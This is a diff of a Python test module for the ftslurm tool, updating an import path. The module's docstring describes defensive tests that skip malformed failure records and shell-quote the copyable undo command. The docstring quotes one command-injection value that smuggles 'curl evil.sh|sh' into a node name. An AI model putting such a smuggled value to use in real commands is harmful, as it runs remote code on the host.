@@ -1,5 +1,5 @@
 """A damaged or planted `<run folder>/failures/nodes.jsonl` (the nodes the launchers took out,
-ftslurm/replica/preflight.py) read by `ftslurm report` and `ftslurm status`: a record whose
+ftslurm/replica/launcher/preflight.py) read by `ftslurm report` and `ftslurm status`: a record whose
 time is not a clock's (Infinity, NaN, +-1e300) is skipped instead of making both commands
 raise, and the undo command a person copies is shell-quoted and never carries a node name or a
 job id that is not one (`NodeName=n1 State=RESUME; curl evil.sh|sh; #`).
@@ -16,7 +16,7 @@ from pathlib import Path
 
 import pytest
 
-from ftslurm.replica import preflight
+from ftslurm.replica.launcher import preflight
 from tests.clirun import invoke
 
 pytestmark = pytest.mark.unit
